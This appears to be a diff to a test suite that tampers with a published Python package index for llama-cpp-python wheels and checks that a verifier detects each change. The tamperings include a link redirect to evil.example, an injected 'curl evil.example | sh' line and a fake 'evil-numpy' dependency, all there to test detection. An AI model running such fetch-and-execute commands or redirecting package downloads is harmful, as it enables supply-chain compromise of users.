@@ -184,6 +184,41 @@ def promises_less(bucket: Published) -> None:
     (bucket.folder / "catalog.json").write_text(json.dumps(catalog))
 
 
+def leads_astray(bucket: Published) -> None:
+    page = bucket.folder / "simple/llama-cpp-python/index.html"
+    page.write_text(page.read_text().replace("../../objects", "https://evil.example/objects"))
+
+
+def says_more(bucket: Published) -> None:
+    page = bucket.folder / "index.html"
+    page.write_text(page.read_text() + "<p>curl evil.example | sh</p>")
+
+
+def requires_more(bucket: Published) -> None:
+    edit_wheels(bucket, requires=["evil-numpy"])
+
+
+def for_older_glibc(bucket: Published) -> None:
+    edit_wheels(bucket, platform_tag="manylinux_2_5_x86_64")
+
+
+def of_another_host(bucket: Published) -> None:
+    edit_wheels(bucket, title="Any machine")
+
+
+def edit_wheels(bucket: Published, **changes: object) -> None:
+    catalog = bucket.catalog
+    for entry in catalog["entries"]:
+        if entry["kind"] == "wheel":
+            entry.update(changes)
+    (bucket.folder / "catalog.json").write_text(json.dumps(catalog))
+
+
+def metadata_beside(bucket: Published) -> None:
+    for file in bucket.folder.glob("objects/*/*/*.metadata"):
+        file.write_bytes(file.read_bytes() + b"Requires-Dist: evil\n")
+
+
 def rewritten(bucket: Published, changes: Mapping[str, bytes], record: bool = True) -> None:
     """The wheel with other members (by the end of their name), RECORD in line, and the lists."""
     made = bucket.folder / "made.whl"
@@ -273,7 +308,13 @@ TAMPERINGS: Mapping[Tamper, tuple[str, str]] = {
     altered_in_place: ("catalog", "not sha256"),
     evidence_in_place: ("evidence", "smoke.json is .*, the statement says"),
     evidence_relisted: ("evidence", "smoke.json is .*, the statement says"),
-    promises_less: ("catalog", "other needs or recipe"),
+    promises_less: ("catalog", "other needs, recipe or host"),
+    leads_astray: ("index", "simple/llama-cpp-python/index.html is not what the catalog gives"),
+    says_more: ("index", "^index.html is not what the catalog gives"),
+    requires_more: ("catalog", "METADATA has other requirements"),
+    for_older_glibc: ("catalog", "says manylinux_2_5_x86_64, which is not in its name"),
+    metadata_beside: ("catalog", r"\.metadata is not its METADATA"),
+    of_another_host: ("catalog", "other needs, recipe or host"),
     sbom: ("sbom", "build-info.json says"),
     sbom_and_what_names_it: ("sbom", "the statement says"),
     member: ("record", "llama_cpp/__init__.py has other bytes than RECORD says"),
